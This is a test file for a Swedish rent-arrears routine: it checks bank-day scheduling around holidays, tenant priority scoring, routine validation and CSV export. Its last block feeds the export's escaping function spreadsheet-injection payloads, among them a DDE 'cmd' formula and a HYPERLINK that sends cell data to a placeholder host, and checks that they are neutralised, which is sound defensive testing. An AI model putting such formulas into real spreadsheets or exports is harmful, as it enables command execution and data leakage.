import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { addDays, bankDayOnOrAfter, bankDaysBetween, daysBetween, dueDateOfMonth, isBankDay, isoWeekday, type IsoDate } from '../calendar/model.ts';
import {
  csvField,
  DEFAULT_ROUTINE,
  ROUTINE_TEMPLATES,
  STEP_ACTIONS,
  STEP_ACTORS,
  conditionsHold,
  previewRoutine,
  priorityOf,
  promisePauseEnds,
  promisesPausingFrom,
  scheduleEnd,
  scheduleStart,
  scheduleStep,
  validateRoutine,
  type Routine,
  type RoutineStep,
  type StepConditions,
  type TenancyFacts,
} from './model.ts';

const byKey = (r: Routine, dueMonth: string) => Object.fromEntries(previewRoutine(r, dueMonth).steps.map(({ key, label: _label, ...s }) => [key, s]));

describe('the Mimer routine (default) for real months', () => {
  it('is the default routine', () => {
    expect(DEFAULT_ROUTINE).toBe(ROUTINE_TEMPLATES.mimer);
    expect(DEFAULT_ROUTINE.steps.map((s) => s.key)).toEqual(['collection_file', 'collection_demand', 'outreach_calls', 'notice_to_social_services']);
  });

  it('January 2027: due Wed 2026-12-30; 31 Dec, 1 Jan and 6 Jan are closed', () => {
    // Bank days after 30 Dec: 31 Dec nyårsafton ✗, 1 Jan nyårsdagen ✗, 2–3 weekend, 4 Mon (1), 5 Tue (2),
    // 6 Jan trettondedag jul ✗, 7 Thu (3), 8 Fri (4), 9–10 weekend, 11 Mon (5), 12 Tue (6).
    // Window 7–17: 30 Dec + 7 = 6 Jan (holiday) → 7 Jan; 30 Dec + 17 = Sat 16 Jan → Fri 15 Jan.
    // Day 20: Tue 19 Jan, a bank day.
    const p = previewRoutine(DEFAULT_ROUTINE, '2027-01');
    expect(p.dueDate).toBe('2026-12-30');
    expect(p.steps).toEqual([
      { key: 'collection_file', label: 'Inkassofil', date: '2027-01-11' },
      { key: 'collection_demand', label: 'Inkassokrav', date: '2027-01-12' },
      { key: 'outreach_calls', label: 'Ring och sms:a hyresgästen', from: '2027-01-07', to: '2027-01-15' },
      { key: 'notice_to_social_services', label: 'Underrättelse till socialnämnden', date: '2027-01-19' },
    ]);
  });

  it('April 2024, around Easter: due Thu 2024-03-28 (29 Mar långfredagen, 31 Mar påskdagen, 1 Apr annandag påsk)', () => {
    // 1 April 2024 is annandag påsk, 31 Mar Sunday, 30 Mar Saturday, 29 Mar långfredagen → due Thu 28 Mar.
    // Bank days after 28 Mar: 29 ✗, 30–31 ✗, 1 Apr ✗, 2 Tue (1), 3 Wed (2), 4 Thu (3), 5 Fri (4),
    // 8 Mon (5), 9 Tue (6).
    // Window 7–17: 28 Mar + 7 = Thu 4 Apr (bank day); 28 Mar + 17 = Sun 14 Apr → Fri 12 Apr.
    // Day 20: Wed 17 Apr.
    expect(byKey(DEFAULT_ROUTINE, '2024-04')).toEqual({
      collection_file: { date: '2024-04-08' },
      collection_demand: { date: '2024-04-09' },
      outreach_calls: { from: '2024-04-04', to: '2024-04-12' },
      notice_to_social_services: { date: '2024-04-17' },
    });
    expect(dueDateOfMonth('2024-04')).toBe('2024-03-28');
  });

  it('April 2026, around Easter: due Tue 2026-03-31 (3 Apr långfredagen, 6 Apr annandag påsk)', () => {
    // Bank days after 31 Mar: 1 Wed (1), 2 Thu (2), 3 Fri ✗, 4–5 ✗, 6 Mon ✗, 7 Tue (3), 8 Wed (4),
    // 9 Thu (5), 10 Fri (6).
    // Window: 31 Mar + 7 = Tue 7 Apr; 31 Mar + 17 = Fri 17 Apr. Day 20: Mon 20 Apr.
    expect(previewRoutine(DEFAULT_ROUTINE, '2026-04').dueDate).toBe('2026-03-31');
    expect(byKey(DEFAULT_ROUTINE, '2026-04')).toEqual({
      collection_file: { date: '2026-04-09' },
      collection_demand: { date: '2026-04-10' },
      outreach_calls: { from: '2026-04-07', to: '2026-04-17' },
      notice_to_social_services: { date: '2026-04-20' },
    });
  });

  it('January 2026, over New Year: due Tue 2025-12-30', () => {
    // 31 Dec nyårsafton ✗, 1 Jan ✗, 2 Fri (1), 3–4 weekend, 5 Mon (2), 6 Tue trettondedag ✗, 7 Wed (3),
    // 8 Thu (4), 9 Fri (5), 12 Mon (6).
    // Window: 30 Dec + 7 = 6 Jan (holiday) → 7 Jan; 30 Dec + 17 = Fri 16 Jan. Day 20: Mon 19 Jan.
    expect(previewRoutine(DEFAULT_ROUTINE, '2026-01').dueDate).toBe('2025-12-30');
    expect(byKey(DEFAULT_ROUTINE, '2026-01')).toEqual({
      collection_file: { date: '2026-01-09' },
      collection_demand: { date: '2026-01-12' },
      outreach_calls: { from: '2026-01-07', to: '2026-01-16' },
      notice_to_social_services: { date: '2026-01-19' },
    });
  });

  it('December 2025 with Nynäshamn: the joint visit window ends before Christmas', () => {
    // Due: 30 Nov 2025 is Sunday, 29 Saturday → Fri 28 Nov.
    // Joint visit, window 14–28: 28 Nov + 14 = Fri 12 Dec; 28 Nov + 28 = Fri 26 Dec annandag jul,
    // 25 juldagen, 24 julafton → Tue 23 Dec.
    // Mimer steps: 1 Mon (1) … 5 Fri (5), 8 Mon (6); window 5 Dec – Mon 15 Dec; day 20 = Thu 18 Dec.
    expect(byKey(ROUTINE_TEMPLATES.nynashamn!, '2025-12')).toEqual({
      collection_file: { date: '2025-12-05' },
      collection_demand: { date: '2025-12-08' },
      outreach_calls: { from: '2025-12-05', to: '2025-12-15' },
      joint_home_visit: { from: '2025-12-12', to: '2025-12-23' },
      notice_to_social_services: { date: '2025-12-18' },
    });
  });

  it('June 2025, around midsummer and the national day, with a landlord’s own steps', () => {
    // Due: 1 June 2025 is Sunday, 31 May Saturday → Fri 30 May (29 May is Kristi himmelsfärdsdag).
    // Bank day 15: 2 Mon (1), 3 (2), 4 (3), 5 (4), 6 Fri nationaldagen ✗, 9 (5), 10 (6), 11 (7),
    // 12 (8), 13 (9), 16 (10), 17 (11), 18 (12), 19 Thu (13), 20 Fri midsommarafton ✗,
    // 21 Sat midsommardagen ✗, 22 Sun, 23 Mon (14), 24 Tue (15).
    // Calendar day 21: 30 May + 21 = Fri 20 Jun midsommarafton → Mon 23 Jun.
    // (30 May + N = N − 1 June.) Window 18–22: 30 May + 18 = Tue 17 Jun; 30 May + 22 = Sat 21 Jun → back past
    // midsommarafton 20 Jun → Thu 19 Jun.
    // Window 21–23: 20 Jun → 23 Jun; 22 Jun (Sun) → back to 19 Jun < start → the window is 23 Jun alone.
    const own: Routine = {
      name: 'Egen',
      templateKey: null,
      steps: [
        { key: 'b15', label: 'B15', timing: { kind: 'bank_day', day: 15 }, action: 'letter', actor: 'landlord', conditions: {} },
        { key: 'c21', label: 'C21', timing: { kind: 'calendar_day', day: 21 }, action: 'letter', actor: 'landlord', conditions: {} },
        { key: 'w18', label: 'W18', timing: { kind: 'window', from: 18, to: 22 }, action: 'call', actor: 'landlord', conditions: {} },
        { key: 'w21', label: 'W21', timing: { kind: 'window', from: 21, to: 23 }, action: 'call', actor: 'landlord', conditions: {} },
      ],
    };
    expect(previewRoutine(own, '2025-06').dueDate).toBe('2025-05-30');
    expect(byKey(own, '2025-06')).toEqual({
      b15: { date: '2025-06-24' },
      c21: { date: '2025-06-23' },
      w18: { from: '2025-06-17', to: '2025-06-19' },
      w21: { from: '2025-06-23', to: '2025-06-23' },
    });
  });

  it('every shipped template yields, for every month 2024–2030, step dates on bank days after the due date', () => {
    for (const routine of Object.values(ROUTINE_TEMPLATES)) {
      for (let y = 2024; y <= 2030; y++) {
        for (let m = 1; m <= 12; m++) {
          const p = previewRoutine(routine, `${y}-${String(m).padStart(2, '0')}`);
          expect(p.steps.map((s) => s.key)).toEqual(routine.steps.map((s) => s.key));
          for (const s of p.steps) {
            const start = 'date' in s ? s.date : s.from;
            expect(isBankDay(start)).toBe(true);
            expect(start > p.dueDate).toBe(true);
            if ('to' in s) {
              expect(isBankDay(s.to)).toBe(true);
              expect(s.to >= s.from).toBe(true);
            }
          }
        }
      }
    }
  });

  it('scheduleStart / scheduleEnd', () => {
    expect(scheduleStart({ date: '2027-01-11' })).toBe('2027-01-11');
    expect(scheduleEnd({ date: '2027-01-11' })).toBeNull();
    expect(scheduleStart({ from: '2027-01-07', to: '2027-01-15' })).toBe('2027-01-07');
    expect(scheduleEnd({ from: '2027-01-07', to: '2027-01-15' })).toBe('2027-01-15');
  });
});

// ---------------------------------------------------------------------------------------------
// scheduleStep against the calendar, for due dates 2000–2100.

const FIRST = '2000-01-01';
const SPAN = daysBetween(FIRST, '2100-12-31');
const anyDateArb = fc.integer({ min: 0, max: SPAN }).map((n) => addDays(FIRST, n));
/** Real due dates (always bank days): the due date of a month 2000-01 … 2100-12. */
const dueDateArb = fc.tuple(fc.integer({ min: 2000, max: 2100 }), fc.integer({ min: 1, max: 12 })).map(([y, m]) => dueDateOfMonth(`${y}-${String(m).padStart(2, '0')}`));
const dayArb = fc.integer({ min: 0, max: 120 });

/** Bank days in [a, b] by walking the calendar one day at a time. */
function bankDaysIn(a: IsoDate, b: IsoDate): IsoDate[] {
  const out: IsoDate[] = [];
  for (let d = a; d <= b; d = addDays(d, 1)) if (isBankDay(d)) out.push(d);
  return out;
}

describe('scheduleStep: properties', () => {
  it('bank_day N from a due date: a bank day with exactly N bank days after the due date up to it', () => {
    fc.assert(
      fc.property(dueDateArb, dayArb, (due, n) => {
        const s = scheduleStep({ kind: 'bank_day', day: n }, due);
        expect('date' in s).toBe(true);
        if (!('date' in s)) return;
        expect(isBankDay(s.date)).toBe(true);
        expect(bankDaysBetween(due, s.date)).toBe(n);
        expect(s.date >= due).toBe(true);
        if (n === 0) expect(s.date).toBe(due);
      }),
      { numRuns: 300 },
    );
  });

  it('bank_day N ≥ 1 from any date: the N-th bank day after it', () => {
    fc.assert(
      fc.property(anyDateArb, fc.integer({ min: 1, max: 120 }), (due, n) => {
        const s = scheduleStep({ kind: 'bank_day', day: n }, due);
        if (!('date' in s)) throw new Error('expected a date');
        expect(isBankDay(s.date)).toBe(true);
        expect(bankDaysBetween(due, s.date)).toBe(n);
        // No bank day is skipped: the day before it has N − 1 bank days since the due date.
        expect(bankDaysBetween(due, addDays(s.date, -1))).toBe(n - 1);
      }),
      { numRuns: 300 },
    );
  });

  it('calendar_day N: the first bank day on or after due + N', () => {
    fc.assert(
      fc.property(anyDateArb, dayArb, (due, n) => {
        const s = scheduleStep({ kind: 'calendar_day', day: n }, due);
        if (!('date' in s)) throw new Error('expected a date');
        const target = addDays(due, n);
        expect(isBankDay(s.date)).toBe(true);
        expect(s.date >= target).toBe(true);
        expect(bankDaysIn(target, addDays(s.date, -1))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('window A–B: starts on the first bank day ≥ due + A, ends on the last bank day ≤ due + B (or at the start)', () => {
    fc.assert(
      fc.property(
        anyDateArb,
        fc.integer({ min: 0, max: 120 }),
        fc.integer({ min: 0, max: 20 }),
        (due, a, len) => {
          const b = a + len;
          const s = scheduleStep({ kind: 'window', from: a, to: b }, due);
          if (!('from' in s)) throw new Error('expected a window');
          const lo = addDays(due, a);
          const hi = addDays(due, b);
          expect(isBankDay(s.from)).toBe(true);
          expect(s.from >= lo).toBe(true);
          expect(bankDaysIn(lo, addDays(s.from, -1))).toEqual([]);
          expect(s.from <= s.to).toBe(true);
          expect(isBankDay(s.to)).toBe(true);
          const inside = bankDaysIn(lo, hi);
          if (inside.length === 0) {
            expect(s.to).toBe(s.from);
          } else {
            expect(s.from).toBe(inside[0]);
            expect(s.to).toBe(inside[inside.length - 1]);
            expect(s.to <= hi).toBe(true);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a window of one day on a holiday or weekend is the next bank day alone', () => {
    // 2027-01-06 trettondedag jul: due 2026-12-30 + 7.
    expect(scheduleStep({ kind: 'window', from: 7, to: 7 }, '2026-12-30')).toEqual({ from: '2027-01-07', to: '2027-01-07' });
    // Sat 2027-01-02 – Sun 2027-01-03 (due + 3 … + 4): nothing open inside → the Monday alone.
    expect(scheduleStep({ kind: 'window', from: 3, to: 4 }, '2026-12-30')).toEqual({ from: '2027-01-04', to: '2027-01-04' });
  });

  it('day 0 steps fall on the due date', () => {
    expect(scheduleStep({ kind: 'bank_day', day: 0 }, '2026-12-30')).toEqual({ date: '2026-12-30' });
    expect(scheduleStep({ kind: 'calendar_day', day: 0 }, '2026-12-30')).toEqual({ date: '2026-12-30' });
    expect(scheduleStep({ kind: 'window', from: 0, to: 0 }, '2026-12-30')).toEqual({ from: '2026-12-30', to: '2026-12-30' });
  });
});

// ---------------------------------------------------------------------------------------------
// conditionsHold

const FACTS: TenancyFacts = { owed: 800_000, monthsOwed: 1, tenantAge: 40, children: 0, daysSinceContact: 3, collectionDemandSent: false };
const holds = (c: StepConditions, f: Partial<TenancyFacts> = {}) => conditionsHold(c, { ...FACTS, ...f });

describe('conditionsHold', () => {
  it('no conditions always hold', () => {
    expect(holds({})).toBe(true);
    expect(holds({}, { tenantAge: null, children: null, daysSinceContact: null })).toBe(true);
  });

  it('minAmount: at least this many öre', () => {
    expect(holds({ minAmount: 800_000 }, { owed: 800_000 })).toBe(true);
    expect(holds({ minAmount: 800_000 }, { owed: 799_999 })).toBe(false);
    expect(holds({ minAmount: 0 }, { owed: 1 })).toBe(true);
  });

  it('minMonthsOwed: at least this many months', () => {
    expect(holds({ minMonthsOwed: 2 }, { monthsOwed: 2 })).toBe(true);
    expect(holds({ minMonthsOwed: 2 }, { monthsOwed: 1.99 })).toBe(false);
    expect(holds({ minMonthsOwed: 2 }, { monthsOwed: 3.5 })).toBe(true);
  });

  it('maxTenantAge 25 includes 25; an unknown age fails', () => {
    expect(holds({ maxTenantAge: 25 }, { tenantAge: 18 })).toBe(true);
    expect(holds({ maxTenantAge: 25 }, { tenantAge: 25 })).toBe(true);
    expect(holds({ maxTenantAge: 25 }, { tenantAge: 26 })).toBe(false);
    expect(holds({ maxTenantAge: 25 }, { tenantAge: null })).toBe(false);
  });

  it('minTenantAge 65 includes 65; an unknown age fails', () => {
    expect(holds({ minTenantAge: 65 }, { tenantAge: 65 })).toBe(true);
    expect(holds({ minTenantAge: 65 }, { tenantAge: 80 })).toBe(true);
    expect(holds({ minTenantAge: 65 }, { tenantAge: 64 })).toBe(false);
    expect(holds({ minTenantAge: 65 }, { tenantAge: null })).toBe(false);
  });

  it('childrenInHousehold true / false', () => {
    expect(holds({ childrenInHousehold: true }, { children: 2 })).toBe(true);
    expect(holds({ childrenInHousehold: true }, { children: 0 })).toBe(false);
    expect(holds({ childrenInHousehold: true }, { children: null })).toBe(false);
    expect(holds({ childrenInHousehold: false }, { children: 0 })).toBe(true);
    expect(holds({ childrenInHousehold: false }, { children: null })).toBe(true);
    expect(holds({ childrenInHousehold: false }, { children: 1 })).toBe(false);
  });

  it('noContactForDays: at least this many days since contact; never contacted counts as no contact', () => {
    expect(holds({ noContactForDays: 14 }, { daysSinceContact: 14 })).toBe(true);
    expect(holds({ noContactForDays: 14 }, { daysSinceContact: 30 })).toBe(true);
    expect(holds({ noContactForDays: 14 }, { daysSinceContact: 13 })).toBe(false);
    expect(holds({ noContactForDays: 14 }, { daysSinceContact: 0 })).toBe(false);
    expect(holds({ noContactForDays: 14 }, { daysSinceContact: null })).toBe(true);
  });

  it('collectionDemandSent', () => {
    expect(holds({ collectionDemandSent: true }, { collectionDemandSent: true })).toBe(true);
    expect(holds({ collectionDemandSent: true }, { collectionDemandSent: false })).toBe(false);
    expect(holds({ collectionDemandSent: false }, { collectionDemandSent: true })).toBe(true); // false means "not required"
  });

  it('several conditions must all hold', () => {
    fc.assert(
      fc.property(
        fc.record({
          owed: fc.integer({ min: 1, max: 5_000_000 }),
          monthsOwed: fc.integer({ min: 0, max: 600 }).map((n) => n / 100),
          tenantAge: fc.option(fc.integer({ min: 16, max: 100 }), { nil: null }),
          children: fc.option(fc.integer({ min: 0, max: 6 }), { nil: null }),
          daysSinceContact: fc.option(fc.integer({ min: 0, max: 200 }), { nil: null }),
          collectionDemandSent: fc.boolean(),
        }),
        fc.record(
          {
            minAmount: fc.integer({ min: 0, max: 5_000_000 }),
            minMonthsOwed: fc.integer({ min: 0, max: 6 }),
            maxTenantAge: fc.integer({ min: 16, max: 100 }),
            minTenantAge: fc.integer({ min: 16, max: 100 }),
            childrenInHousehold: fc.boolean(),
            noContactForDays: fc.integer({ min: 0, max: 60 }),
            collectionDemandSent: fc.boolean(),
          },
          { requiredKeys: [] },
        ),
        (f, c) => {
          const each = (Object.keys(c) as (keyof StepConditions)[]).every((k) => conditionsHold({ [k]: c[k] } as StepConditions, f));
          expect(conditionsHold(c, f)).toBe(each);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('Telge: the young-tenant step needs both age ≤ 25 and a sent collection demand', () => {
    const step = ROUTINE_TEMPLATES.telge!.steps.find((s) => s.key === 'young_tenant_contact');
    expect(step).toBeDefined();
    const c = step!.conditions;
    expect(conditionsHold(c, { ...FACTS, tenantAge: 25, collectionDemandSent: true })).toBe(true);
    expect(conditionsHold(c, { ...FACTS, tenantAge: 19, collectionDemandSent: true })).toBe(true);
    expect(conditionsHold(c, { ...FACTS, tenantAge: 25, collectionDemandSent: false })).toBe(false);
    expect(conditionsHold(c, { ...FACTS, tenantAge: 26, collectionDemandSent: true })).toBe(false);
    expect(conditionsHold(c, { ...FACTS, tenantAge: null, collectionDemandSent: true })).toBe(false);
    // The other Telge steps apply to everyone.
    for (const s of ROUTINE_TEMPLATES.telge!.steps) if (s.key !== 'young_tenant_contact') expect(conditionsHold(s.conditions, { ...FACTS, tenantAge: 50 })).toBe(true);
  });

  it('Nynäshamn: the joint visit goes to those who have not been in contact for 14 days (or ever)', () => {
    const c = ROUTINE_TEMPLATES.nynashamn!.steps.find((s) => s.key === 'joint_home_visit')!.conditions;
    expect(conditionsHold(c, { ...FACTS, daysSinceContact: null })).toBe(true);
    expect(conditionsHold(c, { ...FACTS, daysSinceContact: 14 })).toBe(true);
    expect(conditionsHold(c, { ...FACTS, daysSinceContact: 2 })).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------
// priorityOf

type PFacts = Parameters<typeof priorityOf>[0];
const monthsArb = fc.integer({ min: 0, max: 2400 }).map((n) => n / 100);

describe('priorityOf', () => {
  it('children outrank any number of months owed', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 8 }),
        fc.option(fc.integer({ min: 16, max: 100 }), { nil: null }),
        monthsArb,
        fc.option(fc.integer({ min: 16, max: 100 }), { nil: null }),
        monthsArb,
        fc.constantFrom(0, null),
        (kids, ageA, monthsA, ageB, monthsB, noKids) => {
          const withChildren = priorityOf({ children: kids, tenantAge: ageA, monthsOwed: monthsA });
          const without = priorityOf({ children: noKids, tenantAge: ageB, monthsOwed: monthsB });
          expect(withChildren.score).toBeGreaterThan(without.score);
          expect(withChildren.reasons).toContain('children');
          expect(without.reasons).not.toContain('children');
        },
      ),
      { numRuns: 300 },
    );
  });

  it('without children, a tenant under 25 or over 65 outranks any number of months owed', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.integer({ min: 16, max: 24 }), fc.integer({ min: 66, max: 105 })),
        monthsArb,
        fc.option(fc.integer({ min: 25, max: 65 }), { nil: null }),
        monthsArb,
        fc.constantFrom(0, null),
        (vulnerableAge, monthsA, otherAge, monthsB, noKids) => {
          const a = priorityOf({ children: noKids, tenantAge: vulnerableAge, monthsOwed: monthsA });
          const b = priorityOf({ children: noKids, tenantAge: otherAge, monthsOwed: monthsB });
          expect(a.score).toBeGreaterThan(b.score);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('in the same group, more months owed never ranks lower', () => {
    fc.assert(
      fc.property(fc.constantFrom(0, null, 2), fc.option(fc.integer({ min: 16, max: 100 }), { nil: null }), monthsArb, monthsArb, (children, tenantAge, m1, m2) => {
        const [lo, hi] = m1 <= m2 ? [m1, m2] : [m2, m1];
        expect(priorityOf({ children, tenantAge, monthsOwed: lo }).score).toBeLessThanOrEqual(priorityOf({ children, tenantAge, monthsOwed: hi }).score);
      }),
      { numRuns: 300 },
    );
  });

  it('lists its reasons', () => {
    const reasons = (f: PFacts) => priorityOf(f).reasons;
    expect(reasons({ children: 2, tenantAge: 22, monthsOwed: 3 })).toEqual(['children', 'under_25', 'months_owed']);
    expect(reasons({ children: 1, tenantAge: 70, monthsOwed: 0.5 })).toEqual(['children', 'over_65']);
    expect(reasons({ children: 0, tenantAge: 24, monthsOwed: 1 })).toEqual(['under_25', 'months_owed']);
    expect(reasons({ children: null, tenantAge: 66, monthsOwed: 0 })).toEqual(['over_65']);
    expect(reasons({ children: null, tenantAge: 40, monthsOwed: 2 })).toEqual(['months_owed']);
    expect(reasons({ children: 0, tenantAge: null, monthsOwed: 0.99 })).toEqual([]);
    // The boundaries: "under 25" and "over 65" are strict.
    expect(reasons({ children: 0, tenantAge: 25, monthsOwed: 0 })).toEqual([]);
    expect(reasons({ children: 0, tenantAge: 65, monthsOwed: 0 })).toEqual([]);
  });

  it('ordering of typical households', () => {
    const score = (f: PFacts) => priorityOf(f).score;
    const family = score({ children: 3, tenantAge: 38, monthsOwed: 1 });
    const young = score({ children: 0, tenantAge: 21, monthsOwed: 1 });
    const old = score({ children: 0, tenantAge: 78, monthsOwed: 1 });
    const manyMonths = score({ children: 0, tenantAge: 45, monthsOwed: 8 });
    const oneMonth = score({ children: 0, tenantAge: 45, monthsOwed: 1 });
    expect(family).toBeGreaterThan(young);
    expect(young).toBe(old);
    expect(young).toBeGreaterThan(manyMonths);
    expect(manyMonths).toBeGreaterThan(oneMonth);
  });
});

// ---------------------------------------------------------------------------------------------
// promisePauseEnds

describe('promisePauseEnds', () => {
  it('one bank day after the promise date', () => {
    expect(promisePauseEnds('2027-01-12')).toBe('2027-01-13'); // Tue → Wed
    expect(promisePauseEnds('2027-01-08')).toBe('2027-01-11'); // Fri → Mon
    expect(promisePauseEnds('2027-01-05')).toBe('2027-01-07'); // Tue, 6 Jan trettondedag jul → Thu
    expect(promisePauseEnds('2026-12-23')).toBe('2026-12-28'); // Wed, 24–27 Dec closed → Mon
    expect(promisePauseEnds('2026-04-02')).toBe('2026-04-07'); // Thu before Easter (3–6 Apr closed) → Tue
    expect(promisePauseEnds('2025-06-19')).toBe('2025-06-23'); // Thu before midsommarafton → Mon
    expect(promisePauseEnds('2026-12-30')).toBe('2027-01-04'); // Wed, 31 Dec and 1 Jan closed → Mon
  });

  it('is always the first bank day after the promise date', () => {
    fc.assert(
      fc.property(anyDateArb, (d) => {
        const end = promisePauseEnds(d);
        expect(isBankDay(end)).toBe(true);
        expect(end > d).toBe(true);
        expect(bankDaysBetween(d, end)).toBe(1);
        expect(end).toBe(bankDayOnOrAfter(addDays(d, 1)));
      }),
      { numRuns: 300 },
    );
  });

  it('promisesPausingFrom(D) is exactly where promises still pause escalation on D', () => {
    expect(promisesPausingFrom('2027-01-13')).toBe('2027-01-13'); // a bank day: only promises from today on
    expect(promisesPausingFrom('2027-01-10')).toBe('2027-01-08'); // Sunday: Friday's promise holds until Monday
    expect(promisesPausingFrom('2026-12-27')).toBe('2026-12-23'); // Sunday after Christmas: Wednesday's promise holds
    fc.assert(
      fc.property(anyDateArb, fc.integer({ min: -10, max: 10 }), (d, offset) => {
        const promise = addDays(d, offset);
        expect(promisePauseEnds(promise) > d).toBe(promise >= promisesPausingFrom(d));
      }),
      { numRuns: 1000 },
    );
  });

  it('a Friday promise always ends on a Monday or later', () => {
    fc.assert(
      fc.property(anyDateArb, (d) => {
        fc.pre(isoWeekday(d) === 5);
        expect(daysBetween(d, promisePauseEnds(d))).toBeGreaterThanOrEqual(3);
      }),
      { numRuns: 100 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// validateRoutine

const step = (over: Partial<RoutineStep> = {}): RoutineStep => ({
  key: 'call',
  label: 'Ring',
  timing: { kind: 'bank_day', day: 5 },
  action: 'call',
  actor: 'landlord',
  conditions: {},
  ...over,
});
const routine = (steps: RoutineStep[], name = 'Min rutin'): Routine => ({ name, templateKey: null, steps });
const fields = (r: Routine) => validateRoutine(r).map((p) => p.field);

describe('validateRoutine', () => {
  it('every shipped template validates clean', () => {
    for (const [key, t] of Object.entries(ROUTINE_TEMPLATES)) {
      expect(validateRoutine(t), key).toEqual([]);
      expect(t.templateKey).toBe(key);
      for (const s of t.steps) {
        expect(STEP_ACTIONS).toContain(s.action);
        expect(STEP_ACTORS).toContain(s.actor);
      }
    }
  });

  it('a valid routine has no problems', () => {
    expect(validateRoutine(routine([step()]))).toEqual([]);
  });

  it('a blank name', () => {
    expect(fields(routine([step()], ''))).toEqual(['name']);
    expect(fields(routine([step()], '   '))).toEqual(['name']);
  });

  it('no steps', () => {
    expect(fields(routine([]))).toEqual(['steps']);
  });

  it('a duplicate key names the second step', () => {
    const problems = validateRoutine(routine([step({ key: 'a' }), step({ key: 'a' })]));
    expect(problems.map((p) => p.field)).toEqual(['steps.1.key']);
    expect(problems[0]!.message).toContain('"a"');
  });

  it('a badly formed key', () => {
    expect(fields(routine([step({ key: 'Ring' })]))).toEqual(['steps.0.key']);
    expect(fields(routine([step({ key: '1a' })]))).toEqual(['steps.0.key']);
    expect(fields(routine([step({ key: '' })]))).toEqual(['steps.0.key']);
    expect(fields(routine([step({ key: 'a'.repeat(51) })]))).toEqual(['steps.0.key']);
    expect(fields(routine([step({ key: 'a'.repeat(50) })]))).toEqual([]);
  });

  it('a blank label', () => {
    expect(fields(routine([step(), step({ key: 'x', label: ' ' })]))).toEqual(['steps.1.label']);
  });

  it('a window that ends before it starts names steps.N.timing.to', () => {
    expect(fields(routine([step({ timing: { kind: 'window', from: 10, to: 7 } })]))).toEqual(['steps.0.timing.to']);
    expect(fields(routine([step({ timing: { kind: 'window', from: 7, to: 7 } })]))).toEqual([]);
  });

  it('window bounds out of range', () => {
    expect(fields(routine([step({ timing: { kind: 'window', from: -1, to: 5 } })]))).toEqual(['steps.0.timing.from']);
    expect(fields(routine([step({ timing: { kind: 'window', from: 5, to: 121 } })]))).toEqual(['steps.0.timing.to']);
    expect(fields(routine([step({ timing: { kind: 'window', from: 1.5, to: 5 } })]))).toEqual(['steps.0.timing.from']);
  });

  it('a day out of range or not whole names steps.N.timing.day', () => {
    expect(fields(routine([step({ timing: { kind: 'bank_day', day: -1 } })]))).toEqual(['steps.0.timing.day']);
    expect(fields(routine([step({ timing: { kind: 'calendar_day', day: 121 } })]))).toEqual(['steps.0.timing.day']);
    expect(fields(routine([step({ timing: { kind: 'bank_day', day: 2.5 } })]))).toEqual(['steps.0.timing.day']);
    expect(fields(routine([step({ timing: { kind: 'calendar_day', day: 120 } })]))).toEqual([]);
  });

  it('a negative (or not finite) condition names the condition', () => {
    expect(fields(routine([step({ conditions: { minAmount: -1 } })]))).toEqual(['steps.0.conditions.minAmount']);
    expect(fields(routine([step(), step({ key: 'b', conditions: { maxTenantAge: -25 } })]))).toEqual(['steps.1.conditions.maxTenantAge']);
    expect(fields(routine([step({ conditions: { noContactForDays: Number.NaN } })]))).toEqual(['steps.0.conditions.noContactForDays']);
    expect(fields(routine([step({ conditions: { minMonthsOwed: Number.POSITIVE_INFINITY } })]))).toEqual(['steps.0.conditions.minMonthsOwed']);
    expect(fields(routine([step({ conditions: { minTenantAge: 0, minAmount: 0 } })]))).toEqual([]);
  });

  it('reports every problem at once, each with a message', () => {
    const problems = validateRoutine(
      routine(
        [
          step({ key: 'a' }),
          step({ key: 'a', label: '', timing: { kind: 'window', from: 9, to: 3 }, conditions: { minAmount: -5 } }),
        ],
        '',
      ),
    );
    expect(problems.map((p) => p.field)).toEqual(['name', 'steps.1.key', 'steps.1.label', 'steps.1.timing.to', 'steps.1.conditions.minAmount']);
    for (const p of problems) expect(p.message.length).toBeGreaterThan(0);
  });
});

/** Reads one field back as a spreadsheet would see its text: unquoted, doubled quotes made one. */
function readField(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

describe('csvField: no cell a spreadsheet would run', () => {
  it('neutralises formulas from an imported name or address', () => {
    expect(csvField('=cmd|\' /C calc\'!A0')).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('=HYPERLINK("http://x.example/?d="&A1;"Klicka")')).toBe('"\'=HYPERLINK(""http://x.example/?d=""&A1;""Klicka"")"');
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('+46 70 174 06 05')).toBe("'+46 70 174 06 05");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('leaves names, addresses and amounts as they are', () => {
    for (const v of ['Anna Andersson', 'Björkvägen 7, lgh 1001', '8000,00', '-12,50', '2026-12-30', "O'Brien", '']) expect(csvField(v)).toBe(v);
  });

  it('property: no field begins a formula, and the text read back is the text, behind at most an apostrophe', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', '"', "'", 'a', 'Å', '1', ',', ' ') }), (v) => {
        const read = readField(csvField(v));
        const plainAmount = /^-\d+(,\d+)?$/.test(v);
        if (!plainAmount) expect(read).not.toMatch(/^[=+\-@\t\r]/);
        expect(read === v || read === `'${v}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});
